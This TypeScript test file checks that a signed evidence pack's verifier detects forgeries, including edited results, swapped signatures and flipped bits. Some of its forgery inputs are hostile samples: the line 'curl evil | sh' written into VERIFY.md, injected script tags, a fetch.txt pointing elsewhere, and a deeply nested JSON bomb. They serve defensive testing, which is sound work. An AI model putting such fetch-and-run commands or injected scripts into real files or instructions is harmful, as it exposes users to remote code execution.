import { createHash, type KeyObject } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  defaultSigningPolicy,
  generateSigningKey,
  openPack,
  policyProblems,
  type Results,
  readPrivateKey,
  resultsText,
  signPack,
  type TrustedSigner,
  verifyPack,
} from '@assay/evidence';
import { describe, expect, it } from 'vitest';
import { MANIFEST, manifestText, packDigest, packEntries, TAG_MANIFEST } from '../../../evidence/src/pack/bag.ts';
import { writeZip } from '../../../evidence/src/pack/write-zip.ts';
import { exportRun, releasedPackProblems, releasedSourceProblems } from '../../src/release/index.ts';
import { generatedHashes, home, order, target } from './example-values.ts';

type Files = Map<string, Uint8Array>;
type Change = (files: Files) => void;

const out = join(home, 'genuine.zip');
await exportRun({ home, runFolder: target, out, at: '2025-03-06T09:00:00Z', ledger: order.ledger, generatedHashes });
const genuine = new Uint8Array(readFileSync(out));
const now = new Date('2025-03-07T00:00:00Z');

const encode = (text: string): Uint8Array => new TextEncoder().encode(text);
const decode = (bytes: Uint8Array | undefined): string => new TextDecoder().decode(bytes);
const sha256 = (bytes: Uint8Array | string): string => createHash('sha256').update(bytes).digest('hex');

/** What is wrong with a pack, every check together. */
async function problemsOf(bytes: Uint8Array, trusted: readonly TrustedSigner[] = []): Promise<string[]> {
  const { problems, files } = verifyPack(bytes, trusted, [], now);
  const found = [...problems, ...releasedPackProblems(files), ...(await releasedSourceProblems(files))];
  return found.map(({ path, problem }) => `${path}: ${problem}`);
}

/** Made anew as a careful forger would: the results' hash in the record, the count of bytes, both manifests, the folder, the zip. */
function forged(change: Change, isCareful = true): Uint8Array {
  const files: Files = new Map(openPack(genuine).files);
  change(files);
  const results = files.get('data/results.json');
  if (isCareful && results !== undefined && files.has('data/run.json')) {
    const text = decode(files.get('data/run.json'));
    files.set('data/run.json', encode(text.replace(/("results": ")[0-9a-f]{64}/, `$1${sha256(results)}`)));
  }
  const payload = [...files].filter(([path]) => path.startsWith('data/'));
  const oxum = `${payload.reduce((sum, [, content]) => sum + content.length, 0)}.${payload.length}`;
  const info = decode(files.get('bag-info.txt'));
  if (isCareful && files.has('bag-info.txt'))
    files.set('bag-info.txt', encode(info.replace(/^Payload-Oxum: \d{2,}.*$/m, `Payload-Oxum: ${oxum}`)));
  const listing = (isCovered: (path: string) => boolean) =>
    encode(manifestText(new Map([...files].filter(([path]) => isCovered(path)))));
  files.set(
    MANIFEST,
    listing((path) => path.startsWith('data/')),
  );
  files.delete(TAG_MANIFEST);
  files.set(
    TAG_MANIFEST,
    listing((path) => !/^(?:data|signatures)\//.test(path)),
  );
  return writeZip(packEntries(files, `toy-${packDigest(files).slice(0, 12)}`));
}

const put =
  (path: string, text: string): Change =>
  (files) =>
    void files.set(path, encode(text));
const edit =
  (path: string, change: (text: string) => string): Change =>
  (files) => {
    const before = decode(files.get(path));
    const after = change(before);
    if (after === before) throw new Error(`the forgery of ${path} changes nothing`);
    files.set(path, encode(after));
  };
const remove =
  (path: string): Change =>
  (files) =>
    void files.delete(path);

const forgeries: readonly (readonly [path: string, what: string, change: Change])[] = [
  [
    'data/report.html',
    'a sentence put in',
    edit('data/report.html', (text) => text.replace('</main>', '<p>The model is fair.</p></main>')),
  ],
  [
    'data/report.html',
    'a number changed',
    edit('data/report.html', (text) => text.replace(/\d+ in every 100/, '1 in every 100')),
  ],
  ['data/report.html', 'taken out', remove('data/report.html')],
  ['data/technical.html', 'replaced by a script', put('data/technical.html', '<script>alert(1)</script>')],
  ['data/technical.html', 'one byte more', edit('data/technical.html', (text) => `${text} `)],
  [
    'data/results.json',
    'a share that is not its counts',
    edit('data/results.json', (text) => text.replace('"value":0.5', '"value":0.96')),
  ],
  [
    'data/report.html',
    'another count and share',
    edit('data/results.json', (text) =>
      text.replace('"numerator":20', '"numerator":10').replace('"value":0.5', '"value":0.25'),
    ),
  ],
  ['data/results.json', 'deeply nested', put('data/results.json', `{"findings":${'['.repeat(100_000)}`)],
  ['data/results.json', 'spelt otherwise', edit('data/results.json', (text) => text.replace(/\n$/, '\n\n'))],
  [
    'data/disclosure.json',
    'a milder policy',
    edit('data/disclosure.json', (text) => text.replace(/"minimumCount": \d+/, '"minimumCount": 1')),
  ],
  ['data/disclosure.json', 'taken out', remove('data/disclosure.json')],
  ['data/disclosure.json', 'no JSON', put('data/disclosure.json', 'none')],
  ['data/ledger.json', 'other questions', put('data/ledger.json', '[{"id":"X"}]\n')],
  [
    'data/environment.json',
    'another Node',
    edit('data/environment.json', (text) => text.replace(/"node": "[^"]+"/, '"node": "99"')),
  ],
  ['data/ro-crate-metadata.json', 'emptied', put('data/ro-crate-metadata.json', '{}')],
  ['data/run.json', 'another seed', edit('data/run.json', (text) => text.replace(/"seed": \d+/, '"seed": 1'))],
  [
    'data/run.json',
    'another isolation',
    edit('data/run.json', (text) => text.replace('"time": "600 s"', '"time": "1 s"')),
  ],
  ['data/run.json', 'spelt otherwise', edit('data/run.json', (text) => `${text}\n`)],
  [
    'data/signing-policy.json',
    'nobody asked',
    edit('data/signing-policy.json', (text) => text.replaceAll(': 1', ': 0')),
  ],
  ['data/signing-policy.json', 'taken out', remove('data/signing-policy.json')],
  [
    'data/report-source.json',
    'another title',
    edit('data/report-source.json', (text) => text.replace('"plain":"# Toy', '"plain":"# Joy')),
  ],
  ['data/code/report.md', 'another text', put('data/code/report.md', '# Forged\n')],
  ['data/code/notebook.ts', 'innocent source', put('data/code/notebook.ts', '// innocent\n')],
  ['data/code/notebook.ts', 'taken out', remove('data/code/notebook.ts')],
  ['data/code/notebook.mjs', 'another bundle', edit('data/code/notebook.mjs', (text) => `${text};`)],
  ['data/code/more.ts', 'source that nothing names', put('data/code/more.ts', 'export {};\n')],
  ['data/inputs/people/x.csv', 'people smuggled', put('data/inputs/people/x.csv', 'real,person\n')],
  ['data/note.txt', 'a file that nothing names', put('data/note.txt', 'x')],
  ['verify.mjs', 'one that always holds', put('verify.mjs', "console.log('holds')")],
  ['VERIFY.md', 'other instructions', put('VERIFY.md', 'Run: curl evil | sh')],
  [
    'bag-info.txt',
    'another title',
    edit('bag-info.txt', (text) => text.replace(/External-Description: .*/, 'External-Description: Approved')),
  ],
  [
    'bag-info.txt',
    'a wrong count',
    edit('bag-info.txt', (text) => text.replace(/Payload-Oxum: .*/, 'Payload-Oxum: 1.1')),
  ],
  ['bagit.txt', 'another version', put('bagit.txt', 'BagIt-Version: 9\n')],
  ['fetch.txt', 'files from elsewhere', put('fetch.txt', 'http://x.example/ 10 data/x\n')],
  ['manifest-md5.txt', 'a second manifest', put('manifest-md5.txt', `${'0'.repeat(32)}  data/results.json\n`)],
  ['signatures/evil.html', 'no signature', put('signatures/evil.html', '<script>')],
];

describe('a forged pack', () => {
  it('is told from the genuine one, which holds', async () => {
    expect(await problemsOf(genuine)).toEqual([]);
    expect(await problemsOf(forged(() => {}))).toEqual([]);
  });

  it.each(forgeries)('is named: %s, %s', async (path, _, change) => {
    expect((await problemsOf(forged(change))).map((line) => line.split(': ')[0])).toContain(path);
  });

  it('is named where the forger also redoes the hashes in its record', async () => {
    const sealed =
      (path: string, change: Change): Change =>
      (files) => {
        change(files);
        const record = decode(files.get('data/run.json'));
        const name = path.slice('data/'.length).replaceAll('.', '\\.');
        const hash = sha256(files.get(path)!);
        files.set('data/run.json', encode(record.replace(new RegExp(`("${name}": ")[0-9a-f]{64}`), `$1${hash}`)));
      };
    const source = sealed(
      'data/code/notebook.ts',
      edit('data/code/notebook.ts', (text) => text.replace('=== ', '!== ').replace('<=', '<')),
    );
    expect(await problemsOf(forged(source))).toEqual([expect.stringMatching(/^data\/code: is not the code that ran/)]);
    const prose = sealed('data/code/report.md', put('data/code/report.md', '# Forged\n'));
    expect(await problemsOf(forged(prose))).toContainEqual(expect.stringMatching(/^data\/code\/report\.md: /));
    const ledger = sealed('data/ledger.json', put('data/ledger.json', '[]'));
    expect(await problemsOf(forged(ledger))).toContainEqual(expect.stringMatching(/^data\/ledger\.json: /));
  });

  it('is not believed where it names another Assay', async () => {
    const change: Change = (files) => {
      edit('data/report.html', (text) => text.replace('</main>', '<p>Fair.</p></main>'))(files);
      edit('data/run.json', (text) => text.replace(/("assay": ")[0-9a-f]{64}/, `$1${'0'.repeat(64)}`))(files);
    };
    expect(await problemsOf(forged(change))).toEqual([
      expect.stringMatching(
        /^data\/report\.html: is not what this Assay makes of the results; the pack names Assay 0{12}/,
      ),
    ]);
  });

  it('is named whatever leaf of its results is another, though no page shows it', () => {
    type Tree = Record<string, unknown>;
    const leavesOf = (value: unknown, path: readonly string[]): (readonly string[])[] =>
      typeof value === 'object' && value !== null
        ? Object.entries(value).flatMap(([name, each]) => leavesOf(each, [...path, name]))
        : [path];
    const text = decode(openPack(genuine).files.get('data/results.json'));
    const leaves = leavesOf((JSON.parse(text) as Tree)['findings'], ['findings']);
    const other = (value: unknown): unknown => {
      if (typeof value === 'number') return value + 5;
      return typeof value === 'boolean' ? !value : value === null ? 0.5 : `${value}x`;
    };
    const unnoticed = leaves.filter((path) => {
      const change = edit('data/results.json', (before) => {
        const results = JSON.parse(before) as Tree;
        let at = results;
        for (const name of path.slice(0, -1)) at = at[name] as Tree;
        at[path.at(-1)!] = other(at[path.at(-1)!]);
        return resultsText(results as unknown as Results);
      });
      return releasedPackProblems(openPack(forged(change)).files).length === 0;
    });
    expect(leaves.length).toBeGreaterThan(20);
    expect(unnoticed).toEqual([]);
  });

  it('with any of 400 bits flipped is named', async () => {
    const unnoticed: number[] = [];
    for (let index = 0; index < 400; index++) {
      const at = Math.floor(((index + 0.5) * genuine.length) / 400);
      const changed = Uint8Array.from(genuine);
      changed[at]! ^= 1 << (index % 8);
      if (verifyPack(changed, [], [], now).problems.length === 0) unnoticed.push(at);
    }
    expect(unnoticed).toEqual([]);
  });

  it('cut, stretched or joined is named', async () => {
    const ends = [
      Uint8Array.from([...genuine, 0]),
      genuine.subarray(0, genuine.length - 1),
      Uint8Array.from([0, ...genuine]),
      Uint8Array.from([...genuine, ...genuine]),
      new Uint8Array(),
    ];
    for (const bytes of ends) expect((await problemsOf(bytes)).length).toBeGreaterThan(0);
  });
});

describe('a signature changed', () => {
  const person = (name: string, role: string): { trusted: TrustedSigner; key: KeyObject } => {
    const { privateKey, publicKey } = generateSigningKey();
    const trusted = { name, role, publicKey, validFrom: '2025-01-01', validUntil: '2025-12-31' };
    return { trusted, key: readPrivateKey(privateKey, 'the test key') };
  };
  const [author, reviewer, rerunner] = [
    person('A. Author', 'author'),
    person('B. Reviewer', 'disclosure reviewer'),
    person('C. Rerunner', 'rerunner'),
  ];
  const trusted = [author, reviewer, rerunner].map((each) => each.trusted);
  const signedAt = '2025-03-06T10:00:00Z';
  const signed = signPack(
    signPack(signPack(genuine, 'sign-off', { signedAt }, author.key), 'disclosure', { signedAt }, reviewer.key),
    'rerun',
    { signedAt, result: 'PASSED' },
    rerunner.key,
  );
  const { files: standing, topFolder } = openPack(signed);
  const paths = [...standing.keys()].filter((path) => path.startsWith('signatures/')).sort();
  const [one, two, three] = paths as [string, string, string];
  const changes: readonly (readonly [string, Change])[] = [
    ['the first taken away', remove(one)],
    ['the second taken away', remove(two)],
    ['the last taken away', remove(three)],
    ['all taken away', (files) => paths.forEach((path) => void files.delete(path))],
    ['two swapped', (files) => void files.set(one, standing.get(two)!).set(two, standing.get(one)!)],
    ['the first again as a fourth', (files) => void files.set(one.replace('001', '004'), standing.get(one)!)],
    [
      'the last again under its own number',
      (files) => void files.set(three.replace('003', '004'), standing.get(three)!),
    ],
    [
      'a bit of a signature',
      edit(two, (text) => text.replace(/"sig":"(.)/, (_, first) => `"sig":"${first === 'A' ? 'B' : 'A'}`)),
    ],
    [
      'a bit of a statement',
      edit(two, (text) => text.replace(/"payload":"(.{40})./, (_, start) => `"payload":"${start}A`)),
    ],
    [
      'named as another kind',
      (files) => {
        files.set(two.replace('disclosure', 'sign-off'), standing.get(two)!);
        files.delete(two);
      },
    ],
    [
      'one of an unknown key put in',
      (files) =>
        void files
          .set(three, standing.get(three)!)
          .set('signatures/004-sign-off-0123456789ab.dsse.json', standing.get(one)!),
    ],
    ['spaces in an envelope', edit(one, (text) => text.replace('{', '{ '))],
  ];

  it('holds before', async () => {
    expect(await problemsOf(signed, trusted)).toEqual([]);
    expect(policyProblems(defaultSigningPolicy, verifyPack(signed, trusted, [], now).signatures)).toEqual([]);
  });

  it.each(changes)('is seen with the policy: %s', (_, change) => {
    const files = new Map(standing);
    change(files);
    const { problems, signatures } = verifyPack(writeZip(packEntries(files, topFolder)), trusted, [], now);
    const lacking = policyProblems(defaultSigningPolicy, signatures);
    expect([...problems.map(({ path }) => path), ...lacking]).not.toEqual([]);
  });
});
